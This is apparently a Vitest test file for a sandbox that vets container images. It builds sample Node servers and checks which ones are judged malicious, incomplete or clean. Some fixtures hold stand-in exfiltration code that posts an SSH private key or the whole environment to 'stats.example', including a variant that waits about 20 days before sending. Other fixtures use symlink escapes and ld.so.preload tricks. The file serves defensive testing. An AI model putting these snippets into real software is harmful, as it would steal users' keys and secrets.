// Images, unpacked and played with nothing of this machine but the shell that tests their sandbox.
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import type { VetPart } from '../../src/core/model/vetting.ts'
import { baitVariables } from '../../src/core/rehearsal/bait.ts'
import { verdictOf } from '../../src/core/vet/verdict.ts'
import type { TarEntry } from '../samples/archives.ts'
import { makePlace, type Place } from '../store/world.ts'
import { laidOutImage, nodeLayer, savedImage, shellEntry } from './images.ts'
import { playTarget } from './play-target.ts'
import { serverFolder, type Doing } from './servers.ts'

/** Each lays out a whole Node and plays it up to four times, and nine of them do so side by side. */
vi.setConfig({ testTimeout: 180_000 })

let place: Place
let node: readonly TarEntry[]
beforeAll(async () => {
  place = await makePlace()
  node = nodeLayer()
})
afterAll(() => place.dispose())

/** The program lies beside what it loads, and is started by a link, as npm installs one. */
async function serverLayer(name: string, doing: Doing): Promise<readonly TarEntry[]> {
  const below = join(place.folder, 'made')
  await mkdir(below, { recursive: true })
  const folder = await serverFolder(below, name, doing)
  const text = async (file: string): Promise<string> => await readFile(join(folder, file), 'utf8')
  return [
    { name: 'app/package.json', body: await text('package.json') },
    {
      name: 'app/server.js',
      body: `#!/usr/bin/env node\nimport './words.js'\n${await text('server.js')}`,
      mode: 0o755,
    },
    { name: 'app/words.js', body: 'export {}\n' },
    { name: 'usr/bin/notes', type: '2', link: '../../app/server.js' },
  ]
}

async function played(
  name: string,
  layers: readonly (readonly TarEntry[])[],
  config: object,
  more?: object,
): Promise<VetPart> {
  await writeFile(join(place.folder, `${name}.tar`), savedImage(layers, config, more))
  return await playTarget(`${name}.tar`, place)
}

const CONFIG = {
  Entrypoint: ['node'],
  Cmd: ['/usr/bin/notes'],
  Env: ['PATH=/usr/bin', 'HOME=/root', 'GARDEN=beans'],
  WorkingDir: '/app',
}
const POST = `await post('https://stats.example/', read('.ssh/id_rsa'))`

test.concurrent('one whose server steals is malicious', async () => {
  const part = await played('thief', [node, await serverLayer('thief', { call: POST })], CONFIG)
  expect(part.report.findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(['bait-sent', 'key-opened']))
  expect(verdictOf([part])).toBe('malicious')
})

test.concurrent('one that sets the variables that hold bait, or say who is believed, is seen all the same', async () => {
  const own = ['NODE_EXTRA_CA_CERTS=/nowhere', ...baitVariables(() => '').map(({ place: name }) => `${name}=nothing`)]
  const call = `await post('https://stats.example/', JSON.stringify(process.env))`
  const part = await played('sets', [node, await serverLayer('sets', { call })], {
    ...CONFIG,
    Env: [...CONFIG.Env, ...own],
  })
  expect(part.report.findings.map(({ rule }) => rule)).toContain('bait-sent')
})

test.concurrent('one whose server is honest passes', async () => {
  const start = `if (process.env.GARDEN !== 'beans' || process.cwd() !== '/app') process.exit(1)`
  const part = await played('honest', [node, await serverLayer('honest', { start })], CONFIG)
  expect(part.report).toMatchObject({ findings: [], unanswered: [] })
  expect(verdictOf([part])).toBe('no-finding')
  expect(part.suggests?.artifact).toMatchObject({ kind: 'image', image: expect.stringMatching(/^sha256:/) })
})

test.concurrent('one finds nothing of this machine, and believes who answers by its own file of authorities', async () => {
  const start = `const seen = ['/usr/bin/bash', '/usr/bin/strace', '/lib/os-release', '/etc/hostname'].filter((path) => fs.existsSync(path))
    const ca = fs.readFileSync('/etc/ssl/cert.pem', 'utf8')
    await new Promise((done) => https.get('https://' + (seen.length === 0 ? 'nothing' : 'something') + '.example/', { ca }, done).on('error', done))`
  const part = await played('looks', [node, await serverLayer('looks', { start })], CONFIG)
  expect(JSON.stringify(part.did)).toContain('nothing.example')
  expect(part.report.findings.map(({ rule }) => rule)).toEqual(['calls-unasked'])
})

test.concurrent('one whose links lead out finds what they lead to in itself, and changes nothing here', async () => {
  const outside = join(place.folder, 'outside')
  await writeFile(outside, 'as it was')
  const links: TarEntry[] = [
    { name: 'etc/ssl', type: '2', link: `${place.folder}` },
    { name: 'home', type: '2', link: '/' },
    { name: 'app', type: '2', link: '/srv' },
    { name: 'srv/out', type: '2', link: outside },
  ]
  const start = `try { fs.writeFileSync('/srv/out', 'changed') } catch {}`
  const part = await played('links', [node, links, await serverLayer('links', { start })], CONFIG)
  expect(await readFile(outside, 'utf8')).toBe('as it was')
  expect(verdictOf([part])).toBe('no-finding')
})

test.concurrent('one that lays files where the kernel has its own is neither started there nor heard of there', async () => {
  const laid: TarEntry[] = [
    { name: 'proc/self/fd/4/a', body: 'a' },
    { name: 'dev/null', body: 'a' },
    { name: 'etc/ssl/cert.pem', type: '2', link: '/dev/null' },
  ]
  const start = `if (process.cwd() !== '/' || !fs.statSync('/dev/null').isCharacterDevice()) process.exit(1)`
  const layers = [node, laid, await serverLayer('laid-there', { start })]
  const part = await played('laid-there', layers, {
    ...CONFIG,
    Cmd: ['/app/server.js'],
    WorkingDir: '/proc/self/fd/4',
  })
  expect(part.report.unanswered).toEqual([
    { rule: 'rehearsal', why: expect.stringContaining('its working folder, which is not in it') as string },
  ])
})

test.concurrent('one in the form of builders is played too', async () => {
  await writeFile(
    join(place.folder, 'laid.tar'),
    laidOutImage([node, await serverLayer('laid', { call: POST })], CONFIG),
  )
  const part = await playTarget('laid.tar', place)
  expect(part.report.unanswered).toEqual([])
  expect(verdictOf([part])).toBe('malicious')
})

test.concurrent('one whose configuration names other layers is incomplete: under its digest something else would run', async () => {
  const layers = [[{ name: 'bin/a', body: 'a', mode: 0o755 }]]
  await writeFile(
    join(place.folder, 'other.tar'),
    laidOutImage(layers, { Cmd: ['a'] }, [[{ name: 'bin/b', body: 'b' }]]),
  )
  const part = await playTarget('other.tar', place)
  expect(JSON.stringify(part.report.unanswered)).toContain('its layers are not those that its configuration names')
  expect(verdictOf([part])).toBe('incomplete')
})

const WRAPPED: readonly TarEntry[] = [
  shellEntry(),
  { name: 'start.sh', body: '#!/bin/sh\nexec node "$@"\n', mode: 0o755 },
]

test.concurrent('one that is started by a script, and whose server waits for a month, is malicious', async () => {
  const start = `const born = ${Date.now() + 20 * 24 * 3600 * 1000}`
  const waits = await serverLayer('waits', { start, call: `if (Date.now() > born) { ${POST} }` })
  const part = await played('waits', [node, WRAPPED, waits], { ...CONFIG, Entrypoint: ['/start.sh'] })
  expect(part.coverage).toContainEqual({ what: 'playings 40 days ahead', seen: 0, of: 1 })
  expect(verdictOf([part])).toBe('malicious')
})

test.concurrent('one that is started by a script, and is honest, is incomplete: nobody knows what the script does on another day', async () => {
  const part = await played('script', [node, WRAPPED, await serverLayer('script', {})], {
    ...CONFIG,
    Entrypoint: ['/start.sh'],
  })
  expect(part.report).toMatchObject({ findings: [], unanswered: [] })
  expect(verdictOf([part])).toBe('incomplete')
})

test.concurrent('one that wants something in every program is played without it, and incomplete', async () => {
  const preload: TarEntry[] = [{ name: 'etc/ld.so.preload', body: '/app/every.so' }]
  const part = await played('preload', [node, preload, await serverLayer('preload', {})], CONFIG)
  expect(part.report.unanswered).toEqual([
    { rule: 'rehearsal', why: expect.stringContaining('its /etc/ld.so.preload') as string },
  ])
  expect(verdictOf([part])).toBe('incomplete')
})

test.concurrent.each<[string, object, object, string]>([
  ['no command', {}, {}, 'it has no command'],
  ['a command that is not in it', { Cmd: ['gone'] }, {}, 'its command \\"gone\\" is not in it'],
  ['another machine', { Cmd: ['node'] }, { architecture: 'riscv64' }, 'it is made for another machine'],
  ['a command that engines read otherwise', { Cmd: ['node'], cmd: ['x'] }, {}, 'in another spelling'],
])('one with %s is incomplete', async (name, config, more, why) => {
  const part = await played(`is-${name.replaceAll(' ', '-')}`, [[{ name: 'a', body: 'a' }]], config, more)
  expect(JSON.stringify(part.report.unanswered)).toContain(why)
  expect(verdictOf([part])).toBe('incomplete')
})
